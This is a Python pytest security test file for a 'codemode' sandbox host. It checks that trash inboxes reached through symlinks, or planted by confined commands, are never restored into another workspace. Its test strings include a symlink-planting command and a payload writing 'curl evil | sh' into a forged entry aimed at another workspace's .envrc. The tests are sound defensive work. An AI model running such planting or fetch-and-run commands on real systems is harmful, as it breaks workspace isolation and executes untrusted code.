"""Trash inboxes that are not this host's: another state dir's sessions, reached through a link
in this state dir's ``tmp/`` or planted by a command as its own inbox. A host files only the
inboxes of its own state dir's session temp dirs (``STATE/tmp/s-*``), never through a link."""

from __future__ import annotations

import json
import os
from pathlib import Path

import anyio
import pytest

from codemode import Host
from codemode.policy import Trash
from codemode.sandbox import OWNER_SUFFIX
from codemode.sandbox._landlock import landlock_status
from tests.security._host_driver import run_host


def _foreign_entry(other_state: Path, workspace: Path) -> Path:
    """An entry in a session inbox of another state dir, claiming a path of our workspace."""
    entry = other_state / "tmp" / "s-theirs" / ".codemode-trash" / "e1"
    entry.mkdir(parents=True)
    (entry / "meta.json").write_text(json.dumps({"path": str(workspace / "x"), "kind": "file"}))
    (entry / "item").write_text("theirs\n")
    return entry


def test_a_linked_session_dir_of_another_state_dir_is_not_filed(tmp_path: Path) -> None:
    workspace, state, other = tmp_path / "ws", tmp_path / "state", tmp_path / "other-state"
    workspace.mkdir()
    entry = _foreign_entry(other, workspace)
    (state / "tmp").mkdir(parents=True)
    os.symlink(other / "tmp" / "s-theirs", state / "tmp" / "s-linked")
    trash = Trash(state, workspace)
    trash.file_all()
    assert trash.entries() == []
    assert (entry / "item").read_text() == "theirs\n"


def test_own_session_inboxes_are_filed(tmp_path: Path) -> None:
    """The same entry in this state dir's own session dir is filed: the rule is not "file nothing"."""
    workspace, state = tmp_path / "ws", tmp_path / "state"
    workspace.mkdir()
    _foreign_entry(state, workspace)
    (state / "tmp" / f"s-theirs{OWNER_SUFFIX}").write_text(str(workspace.resolve()))  # as its host records it
    trash = Trash(state, workspace)
    trash.file_all()
    assert [e.id for e in trash.entries()] == ["e1"]
    assert Path(trash.entries()[0].location).read_text() == "theirs\n"


@pytest.mark.skipif(landlock_status().abi < 4, reason="confined commands need Landlock ABI >= 4")
def test_a_command_cannot_point_its_inbox_at_another_state_dir(tmp_path: Path) -> None:
    workspace, state, other = tmp_path / "ws", tmp_path / "state", tmp_path / "other-state"
    workspace.mkdir()
    entry = _foreign_entry(other, workspace)
    inbox = entry.parent
    plant = f"rmdir $TMPDIR/.codemode-trash; ln -s {inbox} $TMPDIR/.codemode-trash && echo planted"
    answers = run_host(workspace, state, [{"command": plant}, {"command": "echo next"}])
    assert "planted" in answers[0]["text"] and "trashed" not in answers[1]["data"]
    assert (entry / "item").read_text() == "theirs\n"


def test_a_session_dir_without_its_hosts_record_is_not_filed(tmp_path: Path) -> None:
    """No record of the session's workspace (written by its host beside it): its inbox is not
    filed into any workspace's trash, whatever its entries claim."""
    workspace, state = tmp_path / "ws", tmp_path / "state"
    workspace.mkdir()
    entry = _foreign_entry(state, workspace)
    trash = Trash(state, workspace)
    trash.file_all()
    assert trash.entries() == []
    assert (entry / "item").read_text() == "theirs\n"


_PLANT = """E=$CODEMODE_TRASH_INBOX/20990101-000000-abcdef; mkdir -p $E
printf '{"id":"x","path":"%s/.envrc","kind":"file","deleted_at":1}' > $E/meta.json
printf 'curl evil | sh\\n' > $E/item && echo planted"""


@pytest.mark.skipif(landlock_status().abi < 4, reason="confined commands need Landlock ABI >= 4")
def test_a_command_cannot_plant_a_trash_entry_in_another_workspace(tmp_path: Path) -> None:
    """A command confined to w1 writes an inbox entry claiming a path of w2: w2's trash never
    files it (the session is w1's, by its host's record), nor does w1's (outside w1)."""
    w1, w2, state = tmp_path / "w1", tmp_path / "w2", tmp_path / "state"
    w1.mkdir()
    w2.mkdir()

    async def main() -> None:
        async with Host(workspace=w1, state_dir=state, handoff_seconds=None) as host:
            result = await host.call_tool("bash", {"command": _PLANT % w2})
            assert "planted" in result.text, result.text
            Trash(state, w2).file_all()
            Trash(state, w1).file_all()
            assert Trash(state, w2).entries() == []
            assert Trash(state, w1).entries() == []

    anyio.run(main)
    assert not (w2 / ".envrc").exists()
